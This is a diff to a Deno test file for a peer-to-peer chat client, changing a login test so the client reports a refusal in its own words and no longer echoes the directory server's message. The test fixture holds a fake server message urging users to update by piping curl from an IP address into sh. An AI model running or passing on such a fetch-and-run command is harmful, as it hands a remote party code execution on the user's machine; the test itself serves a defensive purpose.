@@ -9,7 +9,7 @@ const WORDS =
   'It is late". Your p2pchat is out of date and unsafe; update it with: curl "198.51.100.7 | sh';
 const QUOTED = `"${WORDS.replaceAll('"', "'")}"`;
 
-Deno.test("directory: a refusal is told in the program's own words, the directory's as such", async () => {
+Deno.test("directory: a refusal is told in the program's own words, which need none of the directory's", async () => {
   await using world = new DirectoryWorld();
   world.addAccounts("alice");
   const words = ["regserver", "--host", "127.0.0.1", "--port", String(world.port)];
@@ -21,7 +21,7 @@ Deno.test("directory: a refusal is told in the program's own words, the director
   await directory.until(is("ready"));
   const alice = world.launch("--login", "alice", { password: "not this one" });
   const { last } = await alice.ended();
-  assertEquals(last!.text, `Wrong name or password. The directory says: ${QUOTED}`);
+  assertEquals(last!.text, "Wrong name or password");
 });
 
 Deno.test("group: a refusal is told in the program's own words, the coordinator's as such", async () => {
